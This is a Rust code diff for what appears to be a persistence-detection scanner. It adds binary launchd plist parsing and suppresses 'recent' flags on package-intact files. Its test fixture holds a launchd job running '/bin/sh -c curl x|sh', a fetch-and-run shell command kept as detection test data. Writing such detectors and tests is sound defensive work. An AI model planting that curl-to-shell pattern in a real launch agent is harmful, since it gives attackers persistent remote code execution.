@@ -289,6 +289,14 @@ impl<'a> Ctx<'a> {
         let package = m
             .as_ref()
             .and_then(|m| self.package_check(&host, m, &mut flags));
+        // A file with exactly the bytes its package shipped is the vendor's,
+        // however recently it was installed (an upgrade in the window, a
+        // fresh image): `recent` there is noise that buries the real items.
+        // A link is not: a service enabled in the window stays `recent`.
+        let link = m.as_ref().is_some_and(|m| m.file_type().is_symlink());
+        if !link && package.as_deref() == Some(Verdict::Intact.word()) {
+            flags.retain(|f| f != "recent");
+        }
         Item {
             mechanism: mechanism.into(),
             attack: attack.into(),
@@ -984,9 +992,13 @@ fn sudoers(c: &mut Ctx, m: &Mechanism, host: &Path) {
 fn launchd(c: &mut Ctx, m: &Mechanism, host: &Path) {
     for f in file_entries(c, host) {
         let Some(data) = c.read(&f) else { continue };
-        let text = String::from_utf8_lossy(&data).into_owned();
+        let program = if data.starts_with(b"bplist") {
+            binary_plist_program(&data)
+        } else {
+            plist_program(&String::from_utf8_lossy(&data))
+        };
         let it = c.item(m.id, m.attack, &f, Some(&data));
-        c.push(it, Some(&plist_program(&text)));
+        c.push(it, Some(&program));
     }
 }
 
@@ -1506,6 +1518,27 @@ pub fn plist_program(text: &str) -> String {
         .unwrap_or_default()
 }
 
+/// The program a binary plist (`bplist00`, which launchd accepts as well
+/// as XML) runs; empty when it does not parse or names none.
+pub fn binary_plist_program(data: &[u8]) -> String {
+    let Ok(v) = plist::Value::from_reader(std::io::Cursor::new(data)) else {
+        return String::new();
+    };
+    let Some(d) = v.as_dictionary() else {
+        return String::new();
+    };
+    if let Some(args) = d.get("ProgramArguments").and_then(|a| a.as_array()) {
+        let words: Vec<&str> = args.iter().filter_map(|a| a.as_string()).collect();
+        if !words.is_empty() {
+            return words.join(" ");
+        }
+    }
+    d.get("Program")
+        .and_then(|p| p.as_string())
+        .unwrap_or_default()
+        .to_string()
+}
+
 /// Compares a run with a saved baseline.
 pub fn diff(now: &[Item], base: &[Item]) -> Diff {
     let b: BTreeMap<String, &Item> = base.iter().map(|i| (i.key(), i)).collect();
@@ -1586,6 +1619,14 @@ mod tests {
     fn plist() {
         let p = "<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl x|sh</string></array></dict></plist>";
         assert_eq!(plist_program(p), "/bin/sh -c curl x|sh");
+        let mut bin = Vec::new();
+        plist::Value::from_reader_xml(p.as_bytes())
+            .unwrap()
+            .to_writer_binary(&mut bin)
+            .unwrap();
+        assert!(bin.starts_with(b"bplist00"));
+        assert_eq!(binary_plist_program(&bin), "/bin/sh -c curl x|sh");
+        assert_eq!(binary_plist_program(b"bplist00garbage"), "");
     }
 
     #[test]
@@ -1641,6 +1682,13 @@ mod tests {
             let _ = parse_cron_line(&s, true);
             let _ = text_flags(&s);
             let _ = plist_program(&s);
+        }
+
+        #[test]
+        fn binary_plists_never_panic(tail in proptest::collection::vec(any::<u8>(), 0..400)) {
+            let mut b = b"bplist00".to_vec();
+            b.extend(tail);
+            let _ = binary_plist_program(&b);
         }
     }
 }
